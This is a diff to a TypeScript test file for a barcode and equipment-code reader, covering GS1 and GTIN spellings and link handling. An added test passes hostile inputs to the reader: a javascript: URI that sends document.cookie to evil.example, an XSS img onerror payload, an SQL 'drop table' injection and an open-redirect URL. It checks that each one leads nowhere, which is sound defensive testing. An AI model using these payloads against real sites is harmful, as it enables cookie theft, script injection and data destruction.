@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { codeKey, readCode } from './read-code.ts';
+import { codeKey, codeSpellings, readCode } from './read-code.ts';
 
 /** Signs of every sort: letters that grow in capitals, halves of letters, what no keyboard has. */
 const anything = fc
@@ -25,6 +25,11 @@ describe('what was read', () => {
     expect(readCode('96385075').keys).toEqual(['96385075']);
   });
 
+  it('a code has the spellings it is filed under, and a GTIN those of each length', () => {
+    expect(codeSpellings(' 04:a1:b2:c3 ')).toEqual(['04A1B2C3']);
+    expect(new Set(codeSpellings('7031234567895'))).toEqual(new Set(codeSpellings('07031234567895')));
+  });
+
   it('a GS1 code is found by what names the thing, never by its batch', () => {
     const { keys, elements } = readCode('(01)07031234567895(10)LOT7(21)S-99(8004)SV-017');
     expect(keys.slice(1)).toEqual(['SV-017', 'S-99', '07031234567895', '7031234567895']);
@@ -45,6 +50,20 @@ describe('what was read', () => {
     });
     for (const other of [`https://x/${id}`, `javascript:/equipments/${id}`, `https://x/a/b/${id}`])
       expect(readCode(other).own).toBeUndefined();
+  });
+
+  it.each([
+    ['an address of somebody else', 'https://evil.example/login?next=/equipments'],
+    ['a script', 'javascript:fetch("//evil.example/"+document.cookie)'],
+    ['marks of a page', '<img src=x onerror=alert(1)>'],
+    ['four thousand characters', 'A'.repeat(4_096)],
+    ['a command for the database', "'; drop table record; --"],
+    ['nothing but blanks', ' \t\r\n'],
+  ])('%s is a text like any other: it leads nowhere by itself', (_what, raw) => {
+    const { own, text, keys } = readCode(raw);
+    expect(own).toBeUndefined();
+    expect(text.length).toBeLessThanOrEqual(500);
+    expect(keys.length).toBeLessThanOrEqual(2);
   });
 
   it('whatever it is, it is read without failing, and reading a spelling again changes nothing', () => {
